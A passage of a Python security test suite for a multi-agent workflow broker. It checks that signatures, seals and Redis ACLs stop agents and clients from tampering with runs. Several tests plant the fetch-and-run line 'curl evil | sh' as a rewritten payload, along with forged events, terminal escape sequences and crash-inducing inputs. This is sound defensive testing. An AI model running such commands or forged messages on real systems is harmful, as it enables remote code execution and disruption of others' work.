    children = json.loads(raw.hget(fleet.deployment.keys.wf(wf_id), "children") or "{}")
    children["Plan/then"]["payload"] = {"run": "curl evil | sh"}
    rewrite(fleet, wf_id, children=children)
    fails_as_tampered(fleet, wf_id, "Plan/then")
    record("rewrite a spawned task's payload", "admin", "worked: webc ran it (as client)", "the run fails: tampered")


def test_a_client_rewriting_an_ended_runs_params_cannot_retry_it_into_running_them(fleet: Fleet) -> None:
    """A run ended; a user that may write runs rewrites its params, marks it ended by failure; the client asks to retry
    its task: an ended run read again for a retry must still be what was signed and sealed, so the retry
    is refused, and the task never runs the rewritten params."""
    with fleet.client("client") as client:
        wf_id = client.submit(fleet.files["shipping"])
        assert client.wait(wf_id, timeout=60)["state"] == "succeeded"
        rewrite(fleet, wf_id, params={"command": "curl evil | sh"}, state="failed")
        with pytest.raises(InvalidInput, match="tampered"):
            client.retry(wf_id, from_task="Ship", timeout=30)
    assert [row["payload"] for row in fleet.ran(wf_id)] == [{"run": "make release"}]
    assert fleet.alive(), fleet.procs.output()
    record("rewrite an ended run's params, then retry it", "admin", "worked: Ship ran them (as client)", "refused")


def test_digests_that_are_not_ascii_are_refused_and_stop_no_coordinator(fleet: Fleet) -> None:
    """A message's signature, a run's seal: text past ASCII is no digest (Python's constant-time
    comparison raises on it). An agent's message so signed is dead-lettered, and a run so sealed fails
    as tampered; every coordinator goes on."""
    keys = fleet.deployment.keys
    with fleet.client("client") as client:
        wf_id = client.submit(fleet.files["gated"])
    approver = fleet.client("approver")
    request = until(lambda: next((r for r in approver.approvals() if r["workflow"] == wf_id), None), fleet.procs)
    seen = len(fleet.dead_letters())
    body = {"wf": wf_id, "unit": "Build", "dispatch": "d", "attempt": 1, "tokens": 1, "cost": 0.0}
    spend = {"v": wire.VERSION, "id": wire.short_id(), "kind": "spend", "agent": "webc", "sig": "é" * 64, "body": body}
    fleet.deployment.client("webc").xadd(keys.agent_inbox("webc", wf_id), {wire.FIELD: wire.pack(spend)})
    assert "signature" in reasons_since(fleet, seen, 1)[0]
    sealed = fleet.deployment.client("watch").hget(keys.wf(wf_id), "seal").decode()
    rewrite(fleet, wf_id, seal=sealed.rpartition(":")[0] + ":" + "é" * 64)
    approver.decide(request["id"], "approve", key=fleet.stryk, wait=0.5)
    fails_as_tampered(fleet, wf_id, "Ship")
    record("a signature or a seal past ASCII", "webc, client", "(new) every coordinator died", "refused")


def test_under_require_signed_a_handler_spawns_tasks_for_its_own_agent_only(fleet: Fleet) -> None:
    """A webc handler spawns a `step` for cmdc with a shell line of its choosing: no signed file says
    to run that, so the spawn fails its attempt; a child for webc itself runs as any spawn does."""
    with fleet.client("client") as client:
        refused = client.wait(client.submit(fleet.files["spawning"]), timeout=60)
        planned = client.wait(client.submit(fleet.files["planned"]), timeout=60)
    error = refused["tasks"]["Plan"]["error"]
    assert refused["state"] == "failed" and "SpawnError" in error and "spawner's agent ('webc')" in error, error
    assert not [row for row in fleet.ran(refused["id"]) if row["agent"] == "cmdc"]
    assert planned["state"] == "succeeded", planned
    assert [(row["task"], row["agent"]) for row in fleet.ran(planned["id"])] == [("Plan/own", "webc")]
    record("a handler spawns cmdc a shell line", "webc", "cmdc ran it", "refused: SpawnError")


def test_unsigned_and_tampered_workflow_files_are_refused(fleet: Fleet, tmp_path: Path) -> None:
    tampered = tmp_path / "team.yaml"
    shutil.copy(fleet.files["team"], tampered)
    shutil.copy(fleet.files["team"].with_suffix(".yaml.sig"), tmp_path / "team.yaml.sig")
    tampered.write_text(TEAM.replace("make release", "curl evil | sh"))
    unsigned = tmp_path / "unsigned.yaml"
    unsigned.write_text(TEAM)
    with fleet.client("client") as client:
        ends = {name: client.wait(client.submit(path), timeout=60) for name, path in (("t", tampered), ("u", unsigned))}
    assert ends["t"]["state"] == "failed" and "tampered" in ends["t"]["error"]
    assert ends["u"]["state"] == "failed" and "not signed" in ends["u"]["error"]
    assert not fleet.ran(ends["t"]["id"]) and not fleet.ran(ends["u"]["id"])
    record("tampered signed file", "client", "held", ends["t"]["error"])
    record("unsigned file", "client", "held", ends["u"]["error"])


def test_an_agent_cannot_rewrite_a_running_runs_spec(fleet: Fleet) -> None:
    keys = fleet.deployment.keys
    wf_id = fleet.submit()
    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
    webc = fleet.deployment.client("webc")
    spec = json.loads(webc.hget(keys.wf(wf_id), "spec"))  # reading the run is allowed
    spec["tasks"]["Ship"]["payload"] = {"run": "curl evil | sh"}
    for what, call in {
        "HSET spec": lambda: webc.hset(keys.wf(wf_id), "spec", json.dumps(spec)),
        "HINCRBY version": lambda: webc.hincrby(keys.wf(wf_id), "version", 1),
        "EVALSHA START on the meta hash": lambda: webc.evalsha(SHAS[scripts.START], 2, keys.wf(wf_id), "x", "w"),
    }.items():
        with pytest.raises(NoPermissionError):
            call()
            pytest.fail(f"webc may {what} a running run's meta hash")
    untouched(fleet, wf_id)
    ran = {row["task"]: row["payload"] for row in fleet.ran(wf_id)}
    assert ran["Ship"] == {"run": "make release"}
    record("HSET a running run's spec (cmdc's payload)", "webc", "worked: Ship ran it", "refused: NOPERM")


def test_an_agent_writes_no_key_of_a_run_but_its_own_marks_and_lost_attempts(fleet: Fleet) -> None:
    """webc could write any run's tasks hash: every unit's state, dispatch, start mark and counts, its
    history and its output counter. Now its user reads them, and writes only its own agent's marks and
    lost attempts (and the run's output stream, which every agent of a run streams into)."""
    keys = fleet.deployment.keys
    wf_id = fleet.submit()
    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
    webc = fleet.deployment.client("webc")
    writes = [
        lambda: webc.hset(keys.wf_tasks(wf_id), "Scan|state", "succeeded"),
        lambda: webc.hset(keys.wf_tasks(wf_id), "reclaims", "9007199254740993"),
        lambda: webc.rpush(keys.wf_history(wf_id), b"forged"),
        lambda: webc.hset(keys.wf(wf_id), "version", "0"),
        lambda: webc.hset(keys.wf_marks(wf_id, "kalic"), "Scan", "forged"),
        lambda: webc.rpush(keys.wf_lost(wf_id, "kalic"), b"Scan\x1fforged"),
    ]
    for write in writes:
        with pytest.raises(NoPermissionError):
            write()
    assert webc.hget(keys.wf_tasks(wf_id), "Scan|state") == b"ready"  # read, as its start script does
    untouched(fleet, wf_id)
    record("write another agent's unit state in a run's tasks hash", "webc", "worked", "refused: NOPERM")


def test_an_agent_trims_or_ends_no_runs_output_but_its_own_and_that_stops_nothing(fleet: Fleet) -> None:
    """webc's user appended to a run's output stream, which every agent of the run shared: with MAXLEN 0
    it erased the run's events and kalic's output; with the last possible id it ended the stream, so
    nothing more went in. Now each agent streams into its own output of the run, and the run's events
    are the coordinators' alone: webc may break only its own output, and a fake event it puts there
    (kalic's task failed) is not shown. The run ends as its file says, and every process runs on."""
    keys = fleet.deployment.keys
    wf_id = fleet.submit()
    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
    until(lambda: fleet.unit(wf_id, "Build", "state") == "succeeded", fleet.procs)
    webc = fleet.deployment.client("webc")
    last = "18446744073709551615-18446744073709551615"
    for stream in (keys.wf_output(wf_id), keys.wf_agent_output(wf_id, "kalic")):
        for append in ({"maxlen": 0}, {"id": last}):
            with pytest.raises(NoPermissionError):
                webc.xadd(stream, {"k": "event", "m": b"x"}, **append)  # type: ignore[arg-type]
        with pytest.raises(NoPermissionError):
            webc.xtrim(stream, maxlen=0)
    with pytest.raises(NoPermissionError):
        webc.set(keys.wf_agent_output_bytes(wf_id, "kalic"), "999999999")  # kalic's output full
    own = keys.wf_agent_output(wf_id, "webc")
    fake = records.event("task.failed", wf_id, "Scan", {"unit": "Scan", "attempt": 1, "error": "forged"})
    webc.xadd(own, {"k": "event", "m": wire.encode_events([fake])})
    webc.xadd(own, {"k": "event", "m": b"x"}, id=last)  # its own: ended
    untouched(fleet, wf_id)
    assert fleet.alive(), fleet.procs.output()
    shown = list(fleet.client("client").stream(wf_id))
    chunks = {(r["task"], r["data"]["by"]) for r in shown if r["kind"] == "chunk"}
    assert chunks == {("Scan", "kalic"), ("Build", "webc"), ("Ship", "cmdc")}, shown
    types = [r["data"]["type"] for r in shown if r["kind"] == "event"]
    assert "task.failed" not in types and types[-1] == "workflow.succeeded", types
    record(
        "XADD MAXLEN 0 or the last id to a run's output, or another agent's; fake events in its own",
        "webc",
        "worked: erased or ended it for the run",
        "refused: NOPERM; its own breaks only its own",
    )


def test_an_agent_appends_to_no_stream_but_its_own_lanes(fleet: Fleet) -> None:
    """Redis ACLs cannot bound XADD's arguments: a user that may append to a stream may trim it (MAXLEN 0)
    or give it its last possible id, after which nothing more goes in. webc may append to no stream
    another reads: not the inbox, nor another agent's lanes of it, the events log, the dead letters or
    another agent's subscription stream. Its results, events and dead letters go to its own lanes, and
    the coordinators write them on; what it does to those reaches no other agent's work."""
    keys = fleet.deployment.keys
    webc = fleet.deployment.client("webc")
    last = "18446744073709551615-18446744073709551615"
    targets = {
        "the inbox": keys.inbox(None),
        "kalic's inbox lane": keys.agent_inbox("kalic", None),
        "kalic's bulk inbox lane": keys.agent_inbox("kalic", None, bulk=True),
        **{f"the events log ({log})": log for log in keys.event_logs},
        "the dead letters": keys.dlq,
        "kalic's subscription stream": keys.sub("kalic.watch"),
    }
    for stream in targets.values():
        with pytest.raises(NoPermissionError):
            webc.xadd(stream, {wire.FIELD: b"x"}, maxlen=0)
        with pytest.raises(NoPermissionError):
            webc.xadd(stream, {wire.FIELD: b"x"}, id=last)
    own = keys.agent_inbox("webc", None)
    webc.xadd(own, {wire.FIELD: b"x"}, maxlen=0)  # its own lane it may trim: what is there is its own
    junk = webc.xadd(own, {wire.FIELD: b"x"}).decode()
    untouched(fleet, fleet.submit("shipping"), {"Ship": ("cmdc", {"run": "make release"})})
    letter = until(lambda: next((r for r in fleet.dead_letters() if r.get("entry") == junk), None), fleet.procs)
    assert letter["source"] == own  # read, and kept with why, as any inbox entry
    record(
        "XADD MAXLEN 0 or the last id to the inbox, events, dead letters, another's lanes",
        "webc",
        "worked: trimmed, or ended for all",
        "refused: NOPERM",
    )


def test_events_an_agent_sends_malformed_are_dead_lettered_and_stop_no_coordinator(fleet: Fleet) -> None:
    """The coordinators publish and route what a worker sends; an event not shaped as phibroker's (a
    depth that is no number, a type that is no text, a run id that is no text) would stop a router, or
    make readers skip the log entry it shares with other agents' events. Each such message, results and
    all, is dead-lettered with why."""
    seen = len(fleet.dead_letters())
    webc = fleet.store("webc", signed=True)
    malformed = [
        {"id": wire.new_id(), "type": "scan.done", "depth": "abc"},
        {"id": wire.new_id(), "type": 1},
        {"id": wire.new_id(), "type": "scan.done", "workflow": 7},
        {"id": wire.new_id(), "type": "scan.done", "chain": 5},
        {"id": wire.new_id(), "type": "scan.done", "workflow": "}"},  # would make keys of two cluster slots
        "not a map",
    ]
    for event in malformed:
        events = [records.event("scan.fine", None, None, {}), event]
        webc.send_to_coordinators(wire.Inbox(kind="events", body={"events": events}))
    reasons = reasons_since(fleet, seen, len(malformed))
    assert all("an event not shaped as phibroker's" in reason for reason in reasons), reasons
    assert fleet.alive(), fleet.procs.output()
    untouched(fleet, fleet.submit())
    record("malformed events sent to be published", "webc", "(new) a router stopped", "dead-lettered")


def test_an_agent_publishes_none_of_the_coordinators_events_but_its_own_workers_starts(fleet: Fleet) -> None:
    """The coordinators publish what a worker sends them into the run's output, the log and the
    subscriptions. webc sent a `task.failed` for kalic's Scan, a `workflow.failed` and an approval
    request into a run it had no task in: readers showed them (an A2A client took the run for failed),
    and subscribers to `task.failed` reacted. Now a worker may send, of the coordinators' own event
    types, only its own workers' `task.started`: the rest is dead-lettered, and the run shows none. So
    are types that read as theirs (`Task.Failed`) or that are not printable text (a terminal's escapes
    that rewrite the line `logs` shows)."""
    seen = len(fleet.dead_letters())
    webc = fleet.store("webc", signed=True)
    wf_id = fleet.submit("shipping")
    until(lambda: fleet.unit(wf_id, "Ship", "state") in ("running", "succeeded"), fleet.procs)
    about = {"unit": "Ship", "attempt": 1}
    forged = [
        records.event("task.failed", wf_id, "Ship", {**about, "error": "forged by webc"}),
        records.event("workflow.failed", wf_id, None, {}),
        records.event("approval.requested", wf_id, "Ship", {"message": "wire the money"}),
        records.event("task.started", wf_id, "Ship", {**about, "worker": "cmdc@forger:1:x"}),
        records.event("Task.Failed", wf_id, "Ship", {**about, "error": "looks like the coordinators'"}),
        records.event("scan.done\r\x1b[2Ktask.failed", wf_id, "Ship", about),
    ]
    for event in forged:
        webc.relay([event])
    reasons = reasons_since(fleet, seen, len(forged))
    assert all("webc may not publish" in reason for reason in reasons), reasons
    untouched(fleet, wf_id, {"Ship": ("cmdc", {"run": "make release"})})
    shown = list(fleet.client("client").stream(wf_id))
    assert not [r for r in shown if r["kind"] == "event" and r["data"]["id"] in {e["id"] for e in forged}]
    # an event of a handler's type says whose worker sent it, whatever the event claims
    claimed = records.event("scan.finished", wf_id, None, {"target": "repo"}, agent="kalic")
    webc.relay([claimed])

    def published() -> list[dict[str, Any]]:
        return [r["data"] for r in fleet.client("client").stream(wf_id) if r["data"].get("id") == claimed["id"]]

    assert [event["agent"] for event in until(published, fleet.procs)] == ["webc"]
    start = records.event("task.started", wf_id, "Ship", {**about, "worker": "webc@forger:1:x"}, agent="kalic")
    webc.relay([start])  # its own worker's start (of a unit not its: readers show none), claimed as kalic's
    logged = until(
        lambda: [e for e in events_of(fleet.settings("watch"), wf_id) if e["id"] == start["id"]], fleet.procs
    )
    assert [event["agent"] for event in logged] == ["webc"]
    assert fleet.alive(), fleet.procs.output()
    record(
        "a task.failed, workflow.failed, approval request, Task.Failed sent to be published",
        "webc",
        "readers and subscribers took them for the run's",
        "dead-lettered",
    )
    record("an event sent to be published as kalic's", "webc", "nothing said whose it was", "published as webc's")


def test_marks_and_lost_attempts_an_agent_writes_about_another_agents_units_count_for_nothing(
    fleet: Fleet,
) -> None:
    """webc may write its own marks and lost attempts about any unit: it marks kalic's running Scan as
    started by webc with token 7 under Scan's dispatch (which it may read), adds lost attempts of Scan
    (one filed under its own Build), and fills its own hashes with junk. The coordinators read a unit's
    mark from its own agent's hash only, and take a lost attempt only as a record about its agent's
    own unit: the run ends as its file says, with no trace of webc's."""
    keys = fleet.deployment.keys
    wf_id = fleet.submit()
    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
    webc = fleet.deployment.client("webc")
    dispatch = fleet.unit(wf_id, "Scan", "dispatch")
    forged = "\x1f".join([dispatch, "9", "7", "1.0", "1-0", "webc@forger", "0"])
    webc.hset(keys.wf_marks(wf_id, "webc"), mapping={"Scan": forged, "Ship": forged, "junk": "\x1f" * 9})
    lost = records.attempt("Scan", 1, "webc@forger", None, None, 0.0, "lost: forged", False)
    about_scan = [b"Scan\x1f" + lost, b"Build\x1f" + lost, b"Build\x1f\xff\xff", b"Build\x1f\x01", b"\xff" * 64]
    webc.rpush(keys.wf_lost(wf_id, "webc"), *about_scan)
    status = untouched(fleet, wf_id)
    assert not [h for t in status["tasks"].values() for h in t["history"] if "forged" in str(h.get("error"))]
    assert all(t["attempts"] == 1 for t in status["tasks"].values()), status["tasks"]
    assert fleet.alive(), fleet.procs.output()
    record("mark kalic's running task as webc's, token 7", "webc", "(no such hash)", "ignored; run ends")


def test_an_agent_cannot_forge_another_agents_worker_lease(fleet: Fleet) -> None:
    """webc wrote the lease of the kalic worker running Scan: an expiry long past had another kalic
    worker reclaim Scan and run it again, and one far ahead would keep a dead worker's work from ever
    being reclaimed. Each agent's worker leases are now a hash only its workers write: webc's writes to
    kalic's are refused. A lease under that worker's name in webc's own hash, and junk there of every
    kind, count for nothing: Scan runs once, every process runs on, and `agents` shows kalic's worker."""
    keys = fleet.deployment.keys
    wf_id = fleet.submit()
    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
    worker = str(fleet.unit(wf_id, "Scan", "worker"))
    webc = fleet.deployment.client("webc")
    kalics = keys.worker_leases("kalic")
    writes = [
        lambda: webc.hset(kalics, f"{worker}|expires", 0),
        lambda: webc.hdel(kalics, worker, f"{worker}|expires"),
        lambda: webc.evalsha(sha(scripts.LEASE), 1, kalics, worker, -(10**9), wire.pack({})),
    ]
    for write in writes:
        with pytest.raises(NoPermissionError):
            write()
    own = keys.worker_leases("webc")
    webc.evalsha(sha(scripts.LEASE), 1, own, worker, -(10**9), wire.pack({"agent": "kalic"}))
    junk = {b"webc@x": wire.pack({"dispatches": 7, "reclaim_after": "soon", "commands": [1, None]})}
    junk |= {b"webc@x|expires": b"1e999", b"\xff|expires": b"nan", b"webc@y": b"\xc1", b"webc@z": wire.pack([1])}
    webc.hset(own, mapping=junk)
    with pytest.raises(ResponseError, match="at most 512 bytes"):
        webc.evalsha(sha(scripts.LEASE), 1, own, "webc@" + "x" * 600, 1000, wire.pack({}))
    untouched(fleet, wf_id)
    rows = {row["consumer"]: row for row in diagnose.agents(fleet.settings("watch"))}
    assert rows[worker]["agent"] == "kalic" and rows[worker]["alive"], rows
    assert not [name for name in ("webc@x", "webc@y", "webc@z") if rows.get(name, {}).get("alive")], (
        rows
    )  # or forgotten
    assert fleet.alive(), fleet.procs.output()
    record("forge another agent's worker lease", "webc", "its task ran twice", "refused: NOPERM")


def test_an_agents_lease_hash_filled_past_any_fleets_size_is_not_read(fleet: Fleet) -> None:
    """webc fills its own lease hash: hundreds of leases whose info is a list of 24,000 items (as
    big as LEASE takes), or a 20 MB value written by hand. Every look at the leases (each coordinator's,
    each view's) fetched and unpacked it all: seconds and gigabytes each. Now a look skips a hash that
    holds more than a fleet writes, and unpacks no list of a lease past 4,096 items: cmdc's run goes as
    it would, every process runs on, and `agents` answers."""
    keys = fleet.deployment.keys
    webc, admin = fleet.deployment.client("webc"), fleet.deployment.client("admin")
    own = keys.worker_leases("webc")
    blob = msgpack.packb({"dispatches": [""] * 24_000})
    with pytest.raises(ResponseError, match="at most 24 KiB"):
        webc.evalsha(sha(scripts.LEASE), 1, own, "webc@over", 10**12, msgpack.packb({"dispatches": [""] * 30_000}))
    try:
        for n in range(400):
            webc.evalsha(sha(scripts.LEASE), 1, own, f"webc@j{n}", 10**12, blob)
        untouched(fleet, fleet.submit("shipping"), {"Ship": ISSUED["Ship"]})
        shown = {row["consumer"]: row for row in diagnose.agents(fleet.settings("watch"))}
        assert shown["webc@j0"]["host"] is None and any(name.startswith("kalic@") for name in shown), shown
        admin.delete(own)
        webc.hset(own, mapping={"webc@big": b"x" * 40_000_000, "webc@big|expires": 10**12})
        shown = {row["consumer"]: row for row in diagnose.agents(fleet.settings("watch"))}
        assert "webc@big" not in shown and any(name.startswith("kalic@") for name in shown), shown
    finally:
        admin.delete(own)  # webc's workers write their leases again at their next renewal
    assert fleet.alive(), fleet.procs.output()
    record("fill its own lease hash: 10-40 MB", "webc", "each look took seconds, GBs", "bounded, or not read")


def listed(fleet: Fleet, agent: str, says: str | None = None) -> None:
    """AGENT asks the coordinators to put it on the roster (as its worker does when it starts; the
    message naming `says`, if given) and is on it."""
    listing = wire.Inbox(kind="joined", body={"agent": says or agent})
    fleet.store(agent, signed=True).send_to_coordinators(listing)
    admin = fleet.deployment.client("admin")
    until(lambda: agent.encode() in admin.smembers(fleet.deployment.keys.roster), fleet.procs)


def test_a_subscription_filter_too_big_to_run_on_every_event_is_ignored(fleet: Fleet) -> None:
    """webc registers (its grant on the subscriptions hash allows it) a filter on every event whose one
    reference has 60,000 parts: looking it up cost each routing process seconds per event, growing with
    the square of the parts. A filter over 1,000 characters is ignored, so the run goes as it would."""
    keys = fleet.deployment.keys
    webc = fleet.deployment.client("webc")
    where = "data" + ".a" * 60_000 + " == 1"
    listed(fleet, "webc")
    webc.hset(keys.subs_of("webc"), "webc.spy", json.dumps({"agent": "webc", "event": "*", "where": where}))
    try:
        untouched(fleet, fleet.submit())
        assert fleet.alive(), fleet.procs.output()
    finally:
        fleet.deployment.client("admin").hdel(keys.subs_of("webc"), "webc.spy")
    record("a 120 KB `where` on every event", "webc", "each event stalled every process", "ignored")


def test_an_agent_can_neither_change_nor_silence_another_agents_subscription(fleet: Fleet) -> None:
    """Each agent's subscriptions are a hash only its workers write: webc may not touch kalic's, and an
    entry of the same name in its own hash (a filter nothing passes) does not stop kalic's from routing.
    The coordinators write the roster of agents, each agent as its own signed message asks: webc may
    not add names there (junk sorting first would hide real agents past the 1,000 read)."""
    keys = fleet.deployment.keys
    kalic, webc = fleet.deployment.client("kalic"), fleet.deployment.client("webc")
    wants = {"agent": "kalic", "event": "scan.done", "where": None}
    kalic.hset(keys.subs_of("kalic"), "kalic.watch", json.dumps(wants))
    with pytest.raises(NoPermissionError):
        webc.hset(keys.subs_of("kalic"), "kalic.watch", json.dumps({**wants, "event": "nothing"}))
    with pytest.raises(NoPermissionError):
        webc.sadd(keys.roster, "0-junk")
    webc.hset(keys.subs_of("webc"), "kalic.watch", json.dumps({**wants, "event": "nothing"}))
    listed(fleet, "kalic")
    listed(fleet, "webc", says="0-junk")
    admin = fleet.deployment.client("admin")
    assert b"0-junk" not in admin.smembers(keys.roster)  # the signed sender is on it, not the body
    try:
        router = Router(Registry(fleet.settings("coordinator")))
        routed = router.routes([{"id": wire.new_id(), "type": "scan.done", "data": {}, "depth": 0}])
        assert keys.sub("kalic.watch") in {stream for stream, _, _ in routed}, routed
    finally:
        admin.hdel(keys.subs_of("kalic"), "kalic.watch")
        admin.hdel(keys.subs_of("webc"), "kalic.watch")
    record("overwrite another agent's subscription", "webc", "its reactions stopped", "refused: NOPERM")
    record("add junk names to the roster of agents", "webc", "hid real ones past 1,000", "refused: NOPERM")


def test_an_inbox_message_of_millions_of_empty_maps_is_dead_lettered_before_it_fills_a_coordinator(
    fleet: Fleet,
) -> None:
    """One byte packed, ~64 in Python: a 2 MB `decide` body of empty maps made a coordinator hold 80
    times that per message (decides need no signature). An inbox message is refused past one map or list
    per 2 bytes, and dead-lettered with why."""
    keys = fleet.deployment.keys
    seen = len(fleet.dead_letters())
    body = {"approval": "x", "padding": [{}] * 2_000_000}
    raw = msgpack.packb({"v": 1, "id": wire.new_id(), "kind": "decide", "body": body})
    fleet.deployment.client("webc").xadd(keys.agent_inbox("webc", None), {wire.FIELD: raw})
    (reason,) = reasons_since(fleet, seen, 1)
    assert "maps and lists" in reason, reason
    assert fleet.alive(), fleet.procs.output()
    untouched(fleet, fleet.submit())
    record("a 2 MB inbox message of empty maps", "webc", "~80× its size in a coordinator", "dead-lettered (≤ ~40×)")


def test_a_reaction_submit_for_a_run_that_exists_writes_nothing_to_it(fleet: Fleet) -> None:
    """A submitter agent asks the coordinators for a run under another's id: nothing of it is written."""
    keys = fleet.deployment.keys
    wf_id = fleet.submit("slow")
    starter = fleet.store("starter", signed=True)
    workflow = workflows.load(fleet.files["slow"])
    fields = submission(workflow, workflow.params_with({}), wf_id)[1]
    starter.ask_to_submit(wf_id, {**fields, "source_parts": json.dumps({"x": 1})})
    with fleet.client("client") as client:
        assert client.wait(wf_id, timeout=60)["state"] == "succeeded"
    with fleet.client("watch") as watch:
        assert watch.broker.redis.hget(keys.wf(wf_id), "source_parts") is None
        assert watch.broker.redis.hget(keys.wf(wf_id), "submitter") == b"client"
    record("reaction submit under another run's id", "starter", "planted a field", "nothing written")


def test_a_run_asked_for_with_fields_no_coordinator_could_read_is_dead_lettered_and_stops_none(fleet: Fleet) -> None:
    """The client's user asks for runs whose fields the coordinators would write, then fail to read
    back: every coordinator that took the message, or read the run, stopped. Each is dead-lettered
    with why, nothing of it is written, and the coordinators run on."""
    seen = len(fleet.dead_letters())
    workflow = workflows.load(fleet.files["slow"])
    nested: Any = [1]
    for _ in range(200):
        nested = [nested]
    poisons: dict[str, dict[str, Any]] = {
        "bytes in params": {"params": {"x": b"\x00"}},
        "a chain of bytes": {"chain": [b"x"]},
        "params nested 200 deep": {"params": {"x": nested}},
        "a version of 0.0": {"version": 0.0, "launched": 0.0},
        "a depth of 1e300": {"depth": 1e300},
        "a spec that is no workflow": {"spec": "{not json"},
        "a creation time that is no number": {"created_at": float("nan")},
        "a creation time of 1e300": {"created_at": 1e300},
        "a signature that is no object": {"signature": "5", "source_text": "name: slow"},
        "a chain of 3,000 links": {"chain": ["c" * 1000] * 3000},
        "a name that is not its workflow's": {"name": "\x1b[31mfake\nrun  succeeded"},
        "a name that is a number": {"name": 7},
    }
    secret = fleet.deployment.env("client")["PHIBROKER_CLIENT_SECRET"].encode()
    asked = []
    with fleet.client("client") as client:
        for n, changes in enumerate(poisons.values()):
            wf_id, fields = submission(workflow, workflow.params_with({}), f"poisoned-{n}")
            fields = {**fields, **changes, "submitter": "client", "submit_sig": "checked at the start only"}
            message = wire.Inbox(kind="submit", body={"wf": wf_id, "fields": fields})
            raw = message.signed_as(("client", secret), 1 << 26, wire.ASKED_RUN_TTL)
            client.broker.add(fleet.deployment.keys.inbox(wf_id), raw)
            asked.append(wf_id)
        long_id = "a" * 1_100_000  # its kick would be over a message's size
        client.broker.ask_to_submit(long_id, submission(workflow, workflow.params_with({}))[1])
        reasons = reasons_since(fleet, seen, len(poisons) + 1)
        assert all(r.startswith("forged submit: ") for r in reasons), reasons
        assert not {row["id"] for row in client.list()} & {*asked, long_id}
    assert fleet.alive(), fleet.procs.output()
    untouched(fleet, fleet.submit())
    for what in poisons:
        record(f"a run asked for with {what}", "client", "(new path) every coordinator stopped", "dead-lettered")
    record("a run asked for with a 1 MB id", "client", "(new path) every coordinator stopped", "dead-lettered")


# -- copies of signed control messages, and another client's runs ----------------------------------------

HELD = """
name: held
tasks:
  Gate: {signal: {name: go}}
  Work: {agent: webc, command: step, payload: {target: held}, depends_on: [Gate]}
"""
EIGHT_DAYS = 8 * 24 * 3600.0  # longer than a finished run is kept (PHIBROKER_RETENTION: 7 days)


def held(fleet: Fleet) -> str:
    """A run the client submits of HELD, signed: it waits for the signal `go`."""
    path = fleet.directory / "files" / "held.yaml"
    if not path.exists():
        path.write_text(HELD)
        signing.sign_file(fleet.ops, path)
    with fleet.client("client") as client:
        wf_id = client.submit(path)
    until(lambda: fleet.unit(wf_id, "Gate", "state") == "running", fleet.procs)
    return wf_id


def copies(fleet: Fleet, kind: str, wf_id: str, sender: str = "client") -> list[bytes]:
    """The `kind` messages `sender` signed for run `wf_id` in the inbox, oldest first, as the approver
    user reads them."""
    found = []
    for _, fields in fleet.deployment.client("approver").xrange(fleet.deployment.keys.inbox(None)):
        try:
            message = wire.Inbox.decode(fields[wire.FIELD], 1 << 26)
        except (DecodeError, KeyError):
            continue
        if message.kind == kind and message.body.get("wf") == wf_id and message.agent == sender:
            found.append(fields[wire.FIELD])
    return found


def add_again(fleet: Fleet, raw: bytes) -> None:
    """An inbox entry's bytes added again by the approver user, which may read the inbox and append to it."""
    fleet.deployment.client("approver").xadd(fleet.deployment.keys.inbox(None), {wire.FIELD: raw})


def finish(fleet: Fleet, wf_id: str) -> dict[str, Any]:
    """Signal the run's gate and wait for its end: its task then ran once, as its file says."""
    with fleet.client("client") as client:
        client.signal(wf_id, "go")
        status = client.wait(wf_id, timeout=60)
    assert status["state"] == "succeeded", json.dumps(status, default=str)[:3000] + fleet.procs.output()
    assert [(row["task"], row["payload"]) for row in fleet.ran(wf_id)] == [("Work", {"target": "held"})]
    return status


def test_a_copy_of_a_cancel_does_not_cancel_the_run_again_once_retried(fleet: Fleet) -> None:
    seen = len(fleet.dead_letters())
    wf_id = held(fleet)
    with fleet.client("client") as client:
        client.cancel(wf_id, reason="not now")
        assert client.wait(wf_id, timeout=30)["state"] == "cancelled"
        assert client.retry(wf_id)["state"] == "running"
    (cancel,) = copies(fleet, "cancel", wf_id)
    add_again(fleet, cancel)
    (reason,) = reasons_since(fleet, seen, 1)
    assert reason.startswith(f"replayed cancel of run {wf_id!r} from 'client': message "), reason
    assert "was applied already" in reason
    finish(fleet, wf_id)
    record("a copy of a cancel, once the run was retried", "approver", "worked: cancelled again", "refused: replayed")


def test_a_copy_of_an_earlier_retry_does_not_re_open_the_run_again(fleet: Fleet) -> None:
    """The run remembers its last retry only: a copy of the one before it re-opened it."""
    seen = len(fleet.dead_letters())
    wf_id = held(fleet)
    with fleet.client("client") as client:
        for _ in range(2):
            client.cancel(wf_id, reason="not now")
            assert client.wait(wf_id, timeout=30)["state"] == "cancelled"
            assert client.retry(wf_id)["state"] == "running"
        client.cancel(wf_id, reason="for good")
        assert client.wait(wf_id, timeout=30)["state"] == "cancelled"
    first, _ = copies(fleet, "retry", wf_id)
    add_again(fleet, first)
    (reason,) = reasons_since(fleet, seen, 1)
    assert reason.startswith(f"replayed retry of run {wf_id!r} from 'client': message "), reason
    with fleet.client("watch") as watch:
        status = watch.status(wf_id)
    assert status["state"] == "cancelled" and status["error"] == "for good"
    record("a copy of an earlier retry", "approver", "worked: re-opened again", "refused: replayed")


def test_a_copy_of_a_submit_or_of_an_expired_runs_fields_starts_nothing(fleet: Fleet) -> None:
    """A copy of a client's submit; and a run asked for again from the fields and signature of one the
    client submitted eight days ago (as they were while it was kept), which its user may not write."""
    seen = len(fleet.dead_letters())
    wf_id = held(fleet)
    (asked,) = copies(fleet, "submit", wf_id)
    add_again(fleet, asked)  # a run that exists, whoever's, is never written to
    until(lambda: f"submit of run {wf_id}, which exists already" in fleet.procs.output(), fleet.procs)
    finish(fleet, wf_id)

    workflow = workflows.load(fleet.directory / "files" / "held.yaml")
    old, fields = submission(workflow, workflow.params_with({}))
    fields["created_at"] -= EIGHT_DAYS
    secret = fleet.deployment.env("client")["PHIBROKER_CLIENT_SECRET"].encode()
    fields.update(submitter="client", submit_sig=wire.submit_signature(secret, old, "client", fields))
    with fleet.client("client") as client:
        with pytest.raises(NoPermissionError):
            client.broker.submit_workflow(old, fields, sign=False)  # written as copied
        client.broker.ask_to_submit(old, fields)  # its creation time is what the client signed then
